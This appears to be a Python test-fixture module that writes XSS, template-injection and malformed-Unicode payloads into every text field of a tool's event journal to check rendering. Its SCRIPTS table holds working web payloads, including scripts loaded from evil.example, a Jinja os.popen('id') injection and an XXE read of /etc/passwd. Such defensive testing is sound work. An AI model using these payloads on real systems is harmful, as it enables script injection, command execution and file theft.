"""Texts that want to be more than text, and journals with one of them in every field that holds a text.

The kinds of attack are those of OWASP's Cross Site Scripting Prevention and Filter Evasion cheat sheets and of
PortSwigger's XSS cheat sheet, in our own words. Whatever runs calls `hit()`, so that a browser can tell.
"""

import itertools
import json
import re
import types
import typing
from collections.abc import Iterable, Iterator, Mapping
from enum import Enum
from pathlib import Path
from typing import Any

import msgspec

from gameday.journal import events
from gameday.journal.events import AnyEvent, Event

from . import journals

FIXTURES = Path(__file__).parents[1] / "journal" / "fixtures"

SCRIPTS: Mapping[str, str] = {
    # an element of its own
    "script": "<script>hit()</script>",
    "script in capitals": "<ScRiPt>hit()</sCrIpT>",
    "script with a line break": "<script\n>hit()</script\n>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script without an end": "<script>hit()//",
    "script in script": "<scr<script>ipt>hit()</scr</script>ipt>",
    "module": '<script type="module">import("//evil.example/x.js")</script>',
    # an element that acts by itself
    "image": "<img src=x onerror=hit()>",
    "image without spaces": "<img/src=x/onerror=hit()>",
    "image in backquotes": "<img src=`x` onerror=`hit()`>",
    "image with a null": "<img src=x o\x00nerror=hit()>",
    "svg": "<svg onload=hit()>",
    "svg with script": "<svg><script>hit()</script></svg>",
    "svg animates a link": '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a>',
    "svg uses data": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='hit()'/>#x\"/></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "body": "<body onpageshow=hit()>",
    "details": "<details open ontoggle=hit()>",
    "focus": "<input autofocus onfocus=hit()>",
    "video": "<video><source onerror=hit()></video>",
    "iframe": "<iframe src=javascript:parent.hit()></iframe>",
    "object": "<object data=javascript:hit()></object>",
    "embed": "<embed src=javascript:hit()>",
    "form": "<form action=javascript:hit()><button>go</button></form>",
    "base": "<base href=//evil.example/>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "style": "<style>@import '//evil.example/x.css';body{visibility:hidden}</style>",
    "template": "<template shadowrootmode=open><slot onslotchange=hit()></slot></template>",
    "marquee": "<marquee onstart=hit()>x</marquee>",
    "popover": "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=hit()>x</b>",
    # out of an attribute
    "double quote": '"><img src=x onerror=hit()>',
    "single quote": "'><img src=x onerror=hit()>",
    "attribute in double quotes": '" onmouseover="hit()" autofocus tabindex=1 onfocus="hit()" x="',
    "attribute in single quotes": "' onmouseover='hit()' x='",
    "attribute in no quotes": "x onmouseover=hit() style=position:fixed;inset:0",
    # out of another element
    "out of script": "</script><script>hit()</script>",
    "out of a string in script": "';hit();//\";hit();//`${hit()}`</script>",
    "json in script": '{"a":"\\u003c/script>\\u003cscript>hit()"}</script>',
    "out of style": "</style><img src=x onerror=hit()>",
    "out of title": "</title><img src=x onerror=hit()>",
    "out of textarea": "</textarea><img src=x onerror=hit()>",
    "out of noscript": "</noscript><img src=x onerror=hit()>",
    "out of svg": "</title></desc></text></svg><img src=x onerror=hit()>",
    "out of a table": "</td></tr></table></main></body></html><img src=x onerror=hit()>",
    "comment": "<!--><img src=x onerror=hit()>-->",
    "comment that ends": "--><img src=x onerror=hit()><!--",
    "comment with a bang": "--!><img src=x onerror=hit()>",
    "processing": "<?xml-stylesheet href='javascript:hit()'?>",
    "entity": "&lt;img src=x onerror=hit()&gt; &#60;script&#62;hit()&#x3c;/script&#x3e; &Tab; &nbsp",
    # as a link
    "javascript": "javascript:hit()",
    "javascript in capitals": "JaVaScRiPt:hit()",
    "javascript with a tab": "java\tscript:hit()",
    "javascript with a line break": "java\nscript:hit()//https://a.example",
    "javascript with a control": "\x01javascript:hit()",
    "javascript like a page": "javascript://a.example/%0ahit()",
    "data": "data:text/html,<script>hit()</script>",
    "vbscript": "vbscript:MsgBox(1)",
    "page and more": 'https://a.example/"onmouseover="hit()',
    "page with a line break": "https://a.example/\njavascript:hit()",
    "page with a user": "https://a.example@evil.example/",
    "page of nowhere": "//evil.example/x",
    # for what makes a page of it
    "jinja": "{{ 7*7 }}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% raw %}{# x #}",
    "format": "{0.__class__} %(x)s %s %n ${7*7} #{7*7} <%= 7*7 %>",
    "angular": "{{constructor.constructor('hit()')()}}",
    "css": "expression(hit());background:url(javascript:hit());}*{display:none}/*",
    "line separators": "a\u2028hit()\u2029b\u0085c",
    # for the other formats
    "cdata": "]]><x/><![CDATA[ ]]&gt;",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xml entity": "&e; &amp; &#0; &#xD800;",
    "markdown link": "[a](javascript:hit()) ![b](https://evil.example/x.png) [c]: https://evil.example",
    "markdown table": "a | b |\n| --- | --- |\n| c",
    "markdown html": "<b>a</b>\n\n<img src=x onerror=hit()>\n\n# Head\n- [ ] item\n1. item",
    "markdown code": "```\n`a` ``b``\n~~~\n\n    code",
    "markdown autolink": "<https://evil.example> https://evil.example www.evil.example ftp://x.example a@x.example",
    "mention": "@everyone @org/team #1 org/repo#2 GH-3 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef :tada:",
    "slack": "<!channel> <@U123> <https://evil.example|click> *b* _i_ ~s~",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "json": '","title":"x"},{"a":[1e999,null',
}
SHAPES: Mapping[str, str] = {
    "long": "a" * 10_000,
    "long and wide": "W" * 10_000,
    "long in capitals with accents": "Ǽ" * 10_000,
    "long ideographs": "漢" * 10_000,
    "long emoji": "👩\u200d👩\u200d👧\u200d👦" * 1_400,
    "long and unbreakable": "a\u00a0" * 5_000,
    "many marks": ("abcd" + "\u0301\u0489" * 10) * 250,
    "one long emoji": "👩\u200d" * 1_000,
    "one long syllable": "\u1100" * 1_000,
    "one long conjunct": "क\u094d" * 1_000,
    "right to left": "שלום עולם، مرحبا بالعالم",
    "override": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061cy",
    "isolates without an end": "\u2067\u2066\u2068" * 50 + "x",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "emoji": "💥👍🏽🇩🇪1️⃣ 🏴\U000e0067\U000e0062\U000e007f",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "nul": "a\x00b\x00",
    "terminal": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "no characters": "\ufffe\uffff\U0001fffe\ue000\ufffd",
    "spaces": "\u3000\u2003\u1680 a \t\n\r\n b",
    "line feeds": "a\n" * 500,
}
PAYLOADS: Mapping[str, str] = {**SCRIPTS, **SHAPES}
_EVERY = 4  # of the samples, so that there are not too many to draw
_LINK = re.compile(r"https?://[!-~]+")

# Words of the program itself, of which there are only a few: what comes after them is shaped by which of them it is.
WORDS = frozenset(
    {
        "SessionStarted.kind",
        "ConditionInfo.comparator",
        "ConditionInfo.unit",
        "ConditionInfo.role",
        "StepInfo.kind",
        "HypothesisJudged.when",
        "ActivityStarted.kind",
        "ActivityStarted.section",
        "ActivityEnded.status",
        "GuardTripped.cause",
        "AbortRequested.source",
        "FaultPlanned.unit",
    }
)


def harmless(text: str) -> str:
    """A text that a page is shaped by in the same way: whether it is long, has dots in it, is the address of a page."""
    if _LINK.fullmatch(text):
        return "https://a.example/".ljust(len(text), "x")
    return re.sub(r"[^A-Za-z0-9.]", "x", text) if "." in text or len(text) <= 40 else "x" * 41


# -- the fields


def fields(kinds: Iterable[type[Event]]) -> Iterator[str]:
    """Every field of these events, and of the values in them, that may hold a text."""
    seen: set[type] = set()
    found: dict[str, None] = {}

    def walk(kind: Any) -> bool:
        """Whether it holds a text itself."""
        if kind is str:
            return True
        if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
            if kind not in seen:
                seen.add(kind)
                hints = typing.get_type_hints(kind)
                found.update({f"{kind.__name__}.{name}": None for name, hint in hints.items() if walk(hint)})
            return False
        if isinstance(kind, type) and issubclass(kind, Enum):
            return False
        found_any = [walk(argument) for argument in typing.get_args(kind)]  # each is looked at
        return any(found_any)

    for kind in kinds:
        walk(kind)
    return iter(found)


class _Writer:
    """Puts a text in the place of every other one; the same for the same, so that what belongs together still does."""

    def __init__(self, text: str, *, also_words: bool, fill: bool) -> None:
        self._text, self._also_words, self._fill = text, also_words, fill
        self._numbers: dict[str, int] = {}
        self.reached: set[str] = set()

    def _new(self, old: str) -> str:
        # Where it is cut off it may still be told apart.
        return f"{self._numbers.setdefault(old, len(self._numbers))}{self._text}"

    def value(self, value: Any, where: str = "") -> Any:
        match value:
            case msgspec.Raw() | Enum() | bool() | int() | float() | None:
                return value
            case msgspec.Struct():
                return self._struct(value)
            case str():
                self.reached.add(where)
                return value if where in WORDS and not self._also_words else self._new(value)
            case tuple() | list():
                return type(value)(self.value(one, where) for one in value)
            case dict():
                self.reached.add(where)
                return {self._new(key): self.value(one, where) for key, one in value.items()}
        raise TypeError(type(value).__name__)

    def _struct(self, value: msgspec.Struct) -> msgspec.Struct:
        kind = type(value)
        changes = {}
        hints = typing.get_type_hints(kind)
        for name in kind.__struct_fields__:
            now = getattr(value, name)
            if self._fill and now in ("", None, (), {}):
                now = _filled(hints[name], name)
            changes[name] = self.value(now, f"{kind.__name__}.{name}")
        return msgspec.structs.replace(value, **changes)


def _filled(hint: Any, name: str) -> Any:
    """Something for an empty field that may hold a text."""
    arguments = typing.get_args(hint)
    if hint is str or (isinstance(hint, types.UnionType) and str in arguments):
        return f"some {name}"
    if typing.get_origin(hint) is tuple and arguments[0] is str:
        return (f"some {name}",)
    if typing.get_origin(hint) is dict:
        return {f"some {name}": f"more {name}"}
    return () if typing.get_origin(hint) is tuple else None


# -- the journals


def _lines(path: Path) -> list[Event]:
    decoder = msgspec.json.Decoder(AnyEvent)
    return [decoder.decode(line) for line in path.read_bytes().splitlines()]


def whole(directory: Path) -> list[Event]:
    """One session with all that a session can hold: those of `journals` and those kept of every format, end to end, in
    two experiments."""
    sources = [journals.rich(directory / "rich").directory, journals.partnership(directory / "partnership").directory]
    paths = [source / "journal.jsonl" for source in sources] + sorted(FIXTURES.iterdir())
    infos: tuple[list[events.ExperimentInfo], list[events.ExperimentInfo]] = ([], [])
    merged: list[Event] = []
    for number, path in enumerate(paths):
        at, ticks = itertools.count(), itertools.count()
        for event in _lines(path):
            match event:
                case events.SessionStarted():
                    for index, info in enumerate(event.experiments):
                        infos[index % 2].append(info)
                    continue
                case events.SessionEnded():
                    continue
                case events.SignalsSampled() if next(ticks) % _EVERY:
                    continue
            changes: dict[str, Any] = {"at": journals.T0 + 1000 * number + 0.5 * next(at)}
            if isinstance(index := getattr(event, "experiment", None), int):
                changes["experiment"] = index % 2
            if isinstance(event, events.ActivityStarted | events.ActivityEnded):
                changes["activity"] = event.activity + 1000 * number
            if hasattr(event, "fault_id"):
                changes["fault_id"] = f"{number}/{event.fault_id}"
            merged.append(msgspec.structs.replace(event, **changes))
    people = events.PeopleInfo(facilitator="f", builders=("b", "c"), sres=("s",), scribe="w", observers=("o",))
    start = next(event for event in _lines(paths[0]) if isinstance(event, events.SessionStarted))
    end = max(event.at for event in merged) + 1
    return [
        msgspec.structs.replace(start, experiments=tuple(map(_fold, infos)), people=people),
        *merged,
        events.SessionEnded(at=end, verdict=events.Verdict.UNDO_FAILED, exit_code=5, reason="the reason"),
    ]


def _fold(infos: list[events.ExperimentInfo]) -> events.ExperimentInfo:
    """One experiment with all that these have."""
    lists = ("conditions", "probes", "steps", "alerts", "runbooks")
    found = {name: dict.fromkeys(one for info in infos for one in getattr(info, name)) for name in lists}
    return msgspec.structs.replace(infos[0], **{name: tuple(ones) for name, ones in found.items()})


def write(directory: Path, base: list[Event], text: str, *, also_words: bool = False, fill: bool = False) -> set[str]:
    """The journal of this session with the text in every field; the fields that were reached."""
    writer = _Writer(text, also_words=also_words, fill=fill)
    directory.mkdir(parents=True, exist_ok=True)
    encoder = msgspec.json.Encoder()
    with (directory / "journal.jsonl").open("wb") as file:
        for event in base:
            file.write(encoder.encode(writer.value(event)) + b"\n")
    (directory / "signatures.jsonl").write_text(
        "".join(
            json.dumps({"author": f"{role}{text}", "role": role, "at": journals.T0, "sha256": text, "comment": text})
            + "\n"
            for role in ("builder", "sre")
        )
    )
    return writer.reached
